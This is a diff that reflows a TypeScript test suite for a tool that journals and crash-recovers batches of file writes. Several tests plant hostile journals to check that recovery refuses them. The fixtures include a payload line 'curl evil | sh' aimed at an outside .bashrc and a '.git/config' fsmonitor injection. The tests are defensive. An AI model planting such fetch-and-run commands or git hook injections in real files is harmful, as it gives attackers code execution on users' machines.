@@ -17,11 +17,15 @@ async function root(files: Record<string, string>): Promise<string> {
   return dir;
 }
 
-const read = (dir: string, name: string): Promise<string | undefined> => fs.readFile(path.join(dir, name), "utf8").catch(() => undefined);
+const read = (dir: string, name: string): Promise<string | undefined> =>
+  fs.readFile(path.join(dir, name), "utf8").catch(() => undefined);
 
 /** The pid of a process that has exited: a journal under it belongs to nobody alive. */
 function deadPid(): number {
-  return Number(spawnSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"], { encoding: "utf8" }).stdout);
+  return Number(
+    spawnSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"], { encoding: "utf8" })
+      .stdout,
+  );
 }
 
 describe("writeBatch", () => {
@@ -33,7 +37,11 @@ describe("writeBatch", () => {
       { abs: path.join(dir, "new/d.txt"), before: null, after: "d\n" },
     ]);
     expect(result.ok).toBe(true);
-    expect([await read(dir, "a.txt"), await read(dir, "b/c.txt"), await read(dir, "new/d.txt")]).toEqual(["A\n", undefined, "d\n"]);
+    expect([await read(dir, "a.txt"), await read(dir, "b/c.txt"), await read(dir, "new/d.txt")]).toEqual([
+      "A\n",
+      undefined,
+      "d\n",
+    ]);
     expect((await fs.readdir(dir)).filter((n) => n.includes("lockstep-batch"))).toEqual([]);
   });
 
@@ -49,14 +57,27 @@ describe("writeBatch", () => {
 });
 
 /** A journal as a killed lockstep process leaves it, in `folder` (the state directory's folder of the root). */
-async function plant(folder: string, root: string, pid: number, state: "staging" | "committed", entries: object[], token = "ab".repeat(16)): Promise<string> {
+async function plant(
+  folder: string,
+  root: string,
+  pid: number,
+  state: "staging" | "committed",
+  entries: object[],
+  token = "ab".repeat(16),
+): Promise<string> {
   await fs.mkdir(folder, { recursive: true });
   const file = path.join(folder, `${pid}-${token}.json`);
   await fs.writeFile(file, JSON.stringify({ version: 2, token, pid, root, state, entries }));
   return file;
 }
 
-const entry = (dir: string, name: string, before: string | null, after: string | null, temp: string | null): object => ({
+const entry = (
+  dir: string,
+  name: string,
+  before: string | null,
+  after: string | null,
+  temp: string | null,
+): object => ({
   target: path.join(dir, name),
   temp: temp === null ? null : path.join(dir, temp),
   before: before === null ? null : sha256(before),
@@ -65,7 +86,12 @@ const entry = (dir: string, name: string, before: string | null, after: string |
 
 describe("recoverBatches", () => {
   it("finishes a committed journal of a dead process: the renames not done yet, the deletes", async () => {
-    const dir = await root({ "a.txt": "A\n", "b.txt": "b\n", "gone.txt": "g\n", ".b.txt.1-00000000.lockstep-batch": "B\n" });
+    const dir = await root({
+      "a.txt": "A\n",
+      "b.txt": "b\n",
+      "gone.txt": "g\n",
+      ".b.txt.1-00000000.lockstep-batch": "B\n",
+    });
     const journals = tempDir("lockstep-journals-");
     // a.txt was renamed before the kill; b.txt's rename and the delete were not.
     await plant(journals, dir, deadPid(), "committed", [
@@ -74,7 +100,11 @@ describe("recoverBatches", () => {
       entry(dir, "gone.txt", "g\n", null, null),
     ]);
     expect(await recoverBatches(dir, journals)).toEqual({ settled: 1, notes: [] });
-    expect([await read(dir, "a.txt"), await read(dir, "b.txt"), await read(dir, "gone.txt")]).toEqual(["A\n", "B\n", undefined]);
+    expect([await read(dir, "a.txt"), await read(dir, "b.txt"), await read(dir, "gone.txt")]).toEqual([
+      "A\n",
+      "B\n",
+      undefined,
+    ]);
     expect((await fs.readdir(dir)).filter((n) => n.includes("lockstep-batch"))).toEqual([]);
     expect(await fs.readdir(journals)).toEqual([]);
   });
@@ -83,7 +113,9 @@ describe("recoverBatches", () => {
     const dir = await root({ "a.txt": "a\n", ".a.txt.1-00000000.lockstep-batch": "A\n" });
     const journals = tempDir("lockstep-journals-");
     const pid = deadPid();
-    await plant(journals, dir, pid, "staging", [entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch")]);
+    await plant(journals, dir, pid, "staging", [
+      entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch"),
+    ]);
     await fs.writeFile(path.join(journals, `${pid}-${"cd".repeat(16)}.json.tmp`), "{}");
     await recoverBatches(dir, journals);
     expect(await read(dir, "a.txt")).toBe("a\n");
@@ -106,47 +138,105 @@ describe("recoverBatches", () => {
       { target: path.join(outside, ".bashrc"), temp: path.join(dir, "payload.txt") },
       { target: path.join(dir, "keep.txt"), temp: null },
     ];
-    await fs.writeFile(path.join(dir, `.lockstep-batch.${deadPid()}-abcdef01.json`), JSON.stringify({ version: 1, state: "committed", entries }));
+    await fs.writeFile(
+      path.join(dir, `.lockstep-batch.${deadPid()}-abcdef01.json`),
+      JSON.stringify({ version: 1, state: "committed", entries }),
+    );
     const journals = tempDir("lockstep-journals-");
     expect(await recoverBatches(dir, journals)).toEqual({ settled: 0, notes: [] });
-    expect([await read(outside, ".bashrc"), await read(dir, "payload.txt"), await read(dir, "keep.txt")]).toEqual(["# mine\n", "curl evil | sh\n", "k\n"]);
+    expect([
+      await read(outside, ".bashrc"),
+      await read(dir, "payload.txt"),
+      await read(dir, "keep.txt"),
+    ]).toEqual(["# mine\n", "curl evil | sh\n", "k\n"]);
   });
 
   it("refuses a journal in the state directory that names a target outside the root, a temporary file lockstep does not name, or another token", async () => {
     const outside = await root({ ".bashrc": "# mine\n" });
-    const dir = await root({ "a.txt": "a\n", ".a.txt.1-00000000.lockstep-batch": "A\n", "payload.txt": "evil\n" });
+    const dir = await root({
+      "a.txt": "a\n",
+      ".a.txt.1-00000000.lockstep-batch": "A\n",
+      "payload.txt": "evil\n",
+    });
     const journals = tempDir("lockstep-journals-");
-    const bashrc = { target: path.join(outside, ".bashrc"), temp: path.join(outside, "..bashrc.1-00000000.lockstep-batch"), before: sha256("# mine\n"), after: sha256("evil\n") };
-    await plant(journals, dir, deadPid(), "committed", [entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch"), bashrc]);
-    await plant(journals, dir, deadPid(), "committed", [entry(dir, "a.txt", "a\n", "evil\n", "payload.txt")], "12".repeat(16));
-    await plant(journals, dir, deadPid(), "committed", [entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch")], "34".repeat(16));
-    await fs.writeFile(path.join(journals, `${deadPid()}-${"56".repeat(16)}.json`), await fs.readFile(path.join(journals, (await fs.readdir(journals)).find((n) => n.includes("3434"))!)));
+    const bashrc = {
+      target: path.join(outside, ".bashrc"),
+      temp: path.join(outside, "..bashrc.1-00000000.lockstep-batch"),
+      before: sha256("# mine\n"),
+      after: sha256("evil\n"),
+    };
+    await plant(journals, dir, deadPid(), "committed", [
+      entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch"),
+      bashrc,
+    ]);
+    await plant(
+      journals,
+      dir,
+      deadPid(),
+      "committed",
+      [entry(dir, "a.txt", "a\n", "evil\n", "payload.txt")],
+      "12".repeat(16),
+    );
+    await plant(
+      journals,
+      dir,
+      deadPid(),
+      "committed",
+      [entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch")],
+      "34".repeat(16),
+    );
+    await fs.writeFile(
+      path.join(journals, `${deadPid()}-${"56".repeat(16)}.json`),
+      await fs.readFile(path.join(journals, (await fs.readdir(journals)).find((n) => n.includes("3434"))!)),
+    );
     await fs.rm(path.join(journals, (await fs.readdir(journals)).find((n) => n.includes("3434"))!));
     const recovered = await recoverBatches(dir, journals);
     expect(recovered.settled).toBe(0);
     expect(recovered.notes.join("\n")).toMatch(/outside the workspace/);
     expect(recovered.notes.join("\n")).toMatch(/temporary file for .* is not one lockstep names/);
     expect(recovered.notes.join("\n")).toMatch(/not one lockstep wrote for this folder/);
-    expect([await read(outside, ".bashrc"), await read(dir, "a.txt"), await read(dir, "payload.txt")]).toEqual(["# mine\n", "a\n", "evil\n"]);
+    expect([
+      await read(outside, ".bashrc"),
+      await read(dir, "a.txt"),
+      await read(dir, "payload.txt"),
+    ]).toEqual(["# mine\n", "a\n", "evil\n"]);
   });
 
   it("refuses a journal that names a file under .git/", async () => {
-    const dir = await root({ ".git/config": "[core]\n", ".git/.config.1-00000000.lockstep-batch": "[core]\n\tfsmonitor = evil\n" });
+    const dir = await root({
+      ".git/config": "[core]\n",
+      ".git/.config.1-00000000.lockstep-batch": "[core]\n\tfsmonitor = evil\n",
+    });
     const journals = tempDir("lockstep-journals-");
-    await plant(journals, dir, deadPid(), "committed", [entry(dir, ".git/config", "[core]\n", "[core]\n\tfsmonitor = evil\n", ".git/.config.1-00000000.lockstep-batch")]);
+    await plant(journals, dir, deadPid(), "committed", [
+      entry(
+        dir,
+        ".git/config",
+        "[core]\n",
+        "[core]\n\tfsmonitor = evil\n",
+        ".git/.config.1-00000000.lockstep-batch",
+      ),
+    ]);
     expect((await recoverBatches(dir, journals)).notes.join("\n")).toMatch(/inside \.git\//);
     expect(await read(dir, ".git/config")).toBe("[core]\n");
   });
 
   it("a roll-forward keeps a file edited after the crash and says so; the others are finished", async () => {
-    const dir = await root({ "a.txt": "a, edited by the user\n", "b.txt": "b\n", ".a.txt.1-00000000.lockstep-batch": "A\n", ".b.txt.1-00000000.lockstep-batch": "B\n" });
+    const dir = await root({
+      "a.txt": "a, edited by the user\n",
+      "b.txt": "b\n",
+      ".a.txt.1-00000000.lockstep-batch": "A\n",
+      ".b.txt.1-00000000.lockstep-batch": "B\n",
+    });
     const journals = tempDir("lockstep-journals-");
     await plant(journals, dir, deadPid(), "committed", [
       entry(dir, "a.txt", "a\n", "A\n", ".a.txt.1-00000000.lockstep-batch"),
       entry(dir, "b.txt", "b\n", "B\n", ".b.txt.1-00000000.lockstep-batch"),
     ]);
     const recovered = await recoverBatches(dir, journals);
-    expect(recovered.notes).toEqual([expect.stringMatching(/^a\.txt: changed since the interrupted change was made; kept as it is/)]);
+    expect(recovered.notes).toEqual([
+      expect.stringMatching(/^a\.txt: changed since the interrupted change was made; kept as it is/),
+    ]);
     expect([await read(dir, "a.txt"), await read(dir, "b.txt")]).toEqual(["a, edited by the user\n", "B\n"]);
     expect((await fs.readdir(dir)).filter((n) => n.includes("lockstep-batch"))).toEqual([]);
   });
@@ -161,10 +251,14 @@ describe("writeBatch's journal", () => {
     const seen: string[] = [];
     const watcher = (await import("node:fs")).watch(dir, (_event, name) => name && seen.push(String(name)));
     try {
-      const written = await writeBatch(dir, [
-        { abs: path.join(dir, "a.txt"), before: "a\n", after: "A\n" },
-        { abs: path.join(dir, "b.txt"), before: "b\n", after: "B\n" },
-      ], { journals: folder });
+      const written = await writeBatch(
+        dir,
+        [
+          { abs: path.join(dir, "a.txt"), before: "a\n", after: "A\n" },
+          { abs: path.join(dir, "b.txt"), before: "b\n", after: "B\n" },
+        ],
+        { journals: folder },
+      );
       expect(written.ok).toBe(true);
     } finally {
       watcher.close();
